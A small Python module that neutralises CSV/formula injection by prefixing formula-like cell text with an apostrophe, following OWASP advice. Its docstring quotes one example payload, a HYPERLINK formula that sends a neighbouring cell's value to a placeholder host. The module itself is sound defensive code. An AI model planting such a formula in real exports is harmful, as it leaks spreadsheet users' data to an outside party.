"""Text a spreadsheet would evaluate as a formula (CSV/formula injection).

Excel, LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or `@` (also after
a leading tab or carriage return): a site name such as `=HYPERLINK("http://x/?"&A2,"Bấm")` in an
export becomes a live link that sends the row next to it away. Exports write such text as text;
imports warn about it.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    """True for text a spreadsheet could evaluate; numbers, negative ones too, never are."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value: object) -> object:
    """A CSV cell's value: formula-like text gets a leading apostrophe, which spreadsheets read
    as "this is text" (OWASP's advice); every other value is unchanged."""
    return "'" + value if is_formula_like(value) else value  # type: ignore[operator]
